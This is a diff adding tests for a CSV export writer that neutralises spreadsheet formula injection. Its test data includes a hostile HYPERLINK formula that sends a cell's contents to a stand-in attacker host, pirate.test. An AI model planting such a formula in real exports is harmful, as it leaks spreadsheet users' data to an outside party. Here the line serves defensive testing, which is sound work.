@@ -1,5 +1,6 @@
 """The one CSV writer (`;`, BOM, CRLF) and the one attachment response."""
 
+import csv
 import io
 
 from structures.exports import CSV_CONTENT_TYPE, attachment, csv_attachment, csv_writer
@@ -45,3 +46,24 @@ def test_csv_attachment_gives_the_response_and_its_writer():
     assert response["Content-Disposition"] == 'attachment; filename="temoignages-approuves.csv"'
     assert response.content == "\ufeffÉvénement;Lieu\r\n".encode()
     assert response.content.startswith(b"\xef\xbb\xbf")
+
+
+FORMULAS = ['=HYPERLINK("http://pirate.test/?x="&A1;"Cliquez")', "+SUM(A1:A9)", "-2+3", "@SUM(A1)"]
+
+
+def test_csv_writer_neutralises_formulas_in_every_cell():
+    out = io.StringIO()
+    writer = csv_writer(out)
+    writer.writerows([[formula, "Durand"] for formula in FORMULAS])
+    writer.writerow(["\tTAB", "\rCR", "Jean-Pierre", "a=b", 12, -3])
+
+    rows = list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff")), delimiter=";"))
+    assert [row[0] for row in rows[:4]] == ["'" + formula for formula in FORMULAS]
+    assert rows[4] == ["'\tTAB", "'\rCR", "Jean-Pierre", "a=b", "12", "-3"]
+
+
+def test_csv_attachment_neutralises_formulas_too():
+    response, writer = csv_attachment("liste.csv")
+    writer.writerow(["=1+2"])
+
+    assert response.content == "\ufeff'=1+2\r\n".encode()
